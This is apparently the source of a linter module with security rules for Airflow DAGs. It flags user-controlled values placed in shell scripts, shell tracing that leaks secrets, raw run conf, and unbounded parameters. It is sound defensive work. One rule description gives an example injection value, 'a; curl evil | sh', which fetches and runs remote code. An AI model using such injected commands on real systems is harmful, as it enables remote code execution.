"""Rules of what users and runs bring in: values in shell scripts, raw ``conf``, parameters without bounds."""

from __future__ import annotations

import re
from functools import lru_cache
from typing import TYPE_CHECKING

import jinja2
from jinja2 import nodes

from wtmo.checks.rule import Finding, Look, of_dag, of_task, rule
from wtmo.checks.templates import CONF, parsed, reads_conf
from wtmo.checks.words import flags, words

if TYPE_CHECKING:
    from collections.abc import Iterator, Mapping

    from wtmo.graph.model import Json

_WHOLE = {"run_id", "triggering_asset_events"}
_OF_OBJECTS = {
    "dag_run": {"conf", "consumed_asset_events", "note", "partition_key", "run_id", "triggering_user_name"},
    "ti": {"run_id", "xcom_pull"},
    "task_instance": {"run_id", "xcom_pull"},
}
"""What of these objects a user, the API or another task decides."""
_MAPPINGS = {"params": 1, "var": 2}
"""Mappings whose every value comes from outside, and how many names below them tell which one."""
_HARMLESS = {
    *("abs", "count", "float", "int", "length", "round"),
    *("ds", "ds_nodash", "ts", "ts_nodash", "ts_nodash_with_tz"),
}
"""Filters that leave a number or a date."""
_LETTERS = "abcdefghijklmnopqrstuvwxyz"
_PLAIN = frozenset(_LETTERS + _LETTERS.upper() + "0123456789_-.,:/@%+=")
"""What means nothing to a shell."""
_NUMBERS = {"boolean", "integer", "number"}
_DATES = {"date", "date-time", "time", "uuid"}
_SETS_TRACE = re.compile(r"(?:^|[;&|(\n])\s*set\s+(?:-[A-Za-z]*x[A-Za-z]*|-o\s+xtrace)\b")


# --- what of a template comes from outside


@lru_cache(maxsize=4096)
def from_outside(text: str) -> tuple[str, ...]:
    """What a template puts into its text that a run, a user or another task decides, in its order.

    A value that is only compared, or that leaves nothing but a number or a date, is not put into it. Empty, too, for what is no
    template.

    >>> from_outside("{{ 'a' if params.b else ds }} {{ params.c }} {{ params.d | int }} {{ ti.xcom_pull('t').x }}")
    ('params.c', 'ti.xcom_pull')
    """
    try:
        tree = parsed(text)
    except jinja2.TemplateSyntaxError:
        return ()
    return tuple(dict.fromkeys(_Flow().of_statement(tree)))


class _Flow:
    """Follows values of a template to its output, through what it sets and what it loops over."""

    def __init__(self) -> None:
        self._bound: dict[str, tuple[str, ...]] = {}

    def of_statement(self, node: nodes.Node) -> Iterator[str]:
        if isinstance(node, nodes.Output):
            for part in node.nodes:
                yield from self.of_value(part)
            return
        if isinstance(node, nodes.Assign | nodes.For):
            source, target = (node.node, node.target) if isinstance(node, nodes.Assign) else (node.iter, node.target)
            values = tuple(self.of_value(source))
            for name in [target] if isinstance(target, nodes.Name) else target.find_all(nodes.Name):
                self._bound[name.name] = values
        for inner in node.iter_child_nodes():
            yield from self.of_statement(inner)

    def of_value(self, node: nodes.Node) -> Iterator[str]:
        if isinstance(node, nodes.Compare | nodes.Not | nodes.Test):
            return
        if isinstance(node, nodes.CondExpr):
            yield from self.of_value(node.expr1)
            if node.expr2 is not None:
                yield from self.of_value(node.expr2)
            return
        if isinstance(node, nodes.Filter) and node.name in _HARMLESS:
            return
        path = _path(node)
        if path is not None:
            yield from self._of_path(path)
            return
        for inner in node.iter_child_nodes():
            yield from self.of_value(inner)

    def _of_path(self, path: list[str]) -> Iterator[str]:
        head, rest = path[0], path[1:]
        if head in self._bound:
            yield from self._bound[head]
        elif head in _WHOLE:
            yield head
        elif head in _MAPPINGS:
            yield ".".join([head, *rest[: _MAPPINGS[head]]])
        elif head in _OF_OBJECTS and (not rest or rest[0] in _OF_OBJECTS[head]):
            yield ".".join([head, *rest[:1]])


def _path(node: nodes.Node) -> list[str] | None:
    """The names from a variable to a value; calls and ``get("name")`` are seen through. None: it does not begin with a variable."""
    if isinstance(node, nodes.Name):
        return [node.name]
    if isinstance(node, nodes.Call):
        head = _path(node.node)
        if head is None or head[0] == "macros":
            return None
        given = node.args[0] if node.args else None
        if head[-1] == "get" and isinstance(given, nodes.Const):
            return [*head[:-1], str(given.value)]
        return head
    if isinstance(node, nodes.Getattr):
        head = _path(node.node)
        return head and [*head, node.attr]
    if isinstance(node, nodes.Getitem):
        head = _path(node.node)
        return head and [*head, str(node.arg.value) if isinstance(node.arg, nodes.Const) else "[..]"]
    return None


# --- what a parameter may be


def harmless(param: Mapping[str, Json]) -> bool:
    """Whether every value that a parameter may have means nothing to a shell.

    :param param: with its JSON ``schema``.
    """
    schema = param.get("schema") or {}
    kinds = _kinds(schema)
    if kinds and kinds <= _NUMBERS:
        return True
    if "enum" in schema or "const" in schema:
        allowed = schema.get("enum", [schema.get("const")])
        return all(each is None or set(str(each)) <= _PLAIN for each in allowed)
    if kinds != {"string"}:
        return False
    return schema.get("format") in _DATES or ("pattern" in schema and is_plain(str(schema["pattern"])))


def _kinds(schema: Mapping[str, Json]) -> set[str]:
    kinds = schema.get("type") or []
    return {kinds} if isinstance(kinds, str) else set(kinds) - {"null"}


_LITERAL = r"[A-Za-z0-9_,:/@%=-]|\\[-./_,:@%+=]|\\[dw]"
_PIECE = re.compile(
    rf"\(\?:|\(\?!\\n\)|[()|^$*+?]|\{{\d*,?\d*\}}|\[(?P<set>(?:[A-Za-z0-9_.,:/@%+=-]|\\[-./_,:@%+=dw])+)\]|{_LITERAL}"
)
_ANCHORED = re.compile(r"\^.*\$(?:\(\?!\\n\))?", re.DOTALL)


def is_plain(pattern: str) -> bool:
    """Whether all that a pattern matches as a whole means nothing to a shell. What can't be told for sure is not plain.

    >>> is_plain("^[a-z0-9_]+$"), is_plain("[a-z]+"), is_plain("^[ -~]*$"), is_plain("^.*$"), is_plain("^a|b$")
    (True, False, False, False, False)
    """
    if not _ANCHORED.fullmatch(pattern):
        return False
    at = depth = 0
    while at < len(pattern):
        piece = _PIECE.match(pattern, at)
        if piece is None or (piece["set"] and not _is_plain_set(piece["set"])):
            return False
        depth += piece[0] in {"(", "(?:"}
        depth -= piece[0] == ")"
        if piece[0] == "|" and depth == 0:
            return False
        at = piece.end()
    return True


def _is_plain_set(inside: str) -> bool:
    ranges = re.findall(r"(?<!\\)(.)-(.)", re.sub(r"\\.", "", inside))
    return all({chr(code) for code in range(ord(first), ord(last) + 1)} <= _PLAIN for first, last in ranges)


def unbounded(schema: Mapping[str, Json]) -> str | None:
    """What a parameter's JSON schema lacks. None: nothing.

    >>> unbounded({"type": "integer", "minimum": 1})
    'a maximum'
    """
    kinds = _kinds(schema)
    if "enum" in schema or "const" in schema:
        return None
    if not kinds:
        return "a type"
    for kind in sorted(kinds):
        lacks = _lacks(kind, schema)
        if lacks is not None:
            return lacks
    return None


def _lacks(kind: str, schema: Mapping[str, Json]) -> str | None:
    if kind == "string" and not {"pattern", "format"} & schema.keys():
        return "a pattern, a format or an enum"
    if kind in {"integer", "number"}:
        for end, other in (("minimum", "exclusiveMinimum"), ("maximum", "exclusiveMaximum")):
            if not {end, other} & schema.keys():
                return f"a {end}"
    if kind == "array":
        inner = unbounded(schema.get("items") or {})
        return None if inner is None else f"{inner} of its items"
    if kind == "object" and schema.get("additionalProperties") is not False:
        return "additionalProperties=False with its properties"
    return None


# --- rules


@rule(
    "CMD001",
    "A shell reads what a user typed as commands: `a; curl evil | sh` is one value.",
    fix="Give the program the value as a word of its own, without a shell; or use shell(script, flags={...}) of utils/commands.py, "
    "which checks it against a pattern and quotes it.",
)
def value_in_script(look: Look) -> Iterator[Finding]:
    """No script that a shell reads has a value in it that a user, a run, a variable or another task decides.

    Parameters, ``run_id``, XComs and variables are such values; quotes around them do not help. A value that is only compared,
    and a parameter whose schema allows nothing that means something to a shell, may stand there: yes or no, a number, a date, an
    ``enum``, a ``pattern`` of letters, digits and ``_-.,:/@%+=``.
    """
    for dag, task in look.tasks():
        for word in words(task):
            for source in from_outside(str(word.text)) if word.script else ():
                head, _, name = source.partition(".")
                if source == CONF or (head == "params" and name in dag.params and harmless(dag.params[name])):
                    continue
                yield of_task(dag, task, f"{word.field} is a script that a shell reads, and {source} is put into it")


@rule(
    "CMD002",
    "A shell that traces what it runs puts expanded secrets into the log.",
    fix="Take the x out: -c, set -e.",
)
def traced_script(look: Look) -> Iterator[Finding]:
    """No shell traces what it runs: ``bash -cx``, ``set -x``."""
    for dag, task in look.tasks():
        command = words(task)
        for word in flags(command):
            if "x" in str(word.text):
                left = str(word.text).replace("x", "")
                fix = f"Write {left!r}." if left != "-" else "Remove the word."
                yield of_task(dag, task, f"{word.field} is {word.text!r}: the shell traces what it runs", fix=fix)
        for word in command:
            if word.script and (found := _SETS_TRACE.search(str(word.final))):
                yield of_task(dag, task, f"{word.field} has {found[0].strip(' ;&|(')!r}: the shell traces what it runs")


@rule(
    "CMD003",
    "What is in conf passed no schema: names that no parameter has, of any type.",
    fix="Declare a parameter with a function of utils/params.py, and read {{ params.<name> }}.",
)
def raw_conf(look: Look) -> Iterator[Finding]:
    """Templates read ``params``, which Airflow has checked, and not ``dag_run.conf``."""
    for dag, task in look.tasks():
        for template in task.templates:
            if reads_conf(template):
                yield of_task(dag, task, f"{template.field} reads the raw conf of a run")


@rule(
    "CMD004",
    "A parameter without type and bound lets a run start that can only go wrong, or do harm.",
    fix="Use a function of utils/params.py: date_param, text_param, flag_param, number_param, choice_param, list_param.",
)
def param_bounds(look: Look) -> Iterator[Finding]:
    """Every parameter of a hand-written DAG has a type, and what bounds its values.

    Texts have a ``pattern``, a ``format`` or an ``enum``, numbers a ``minimum`` and a ``maximum``, lists bounded items, objects
    ``additionalProperties=False``.
    """
    for dag in look.dags.values():
        for name, param in dag.params.items():
            lacks = unbounded(param.get("schema") or {})
            if lacks is not None:
                yield of_dag(dag, f"the parameter {name!r} has no bound: it lacks {lacks}")
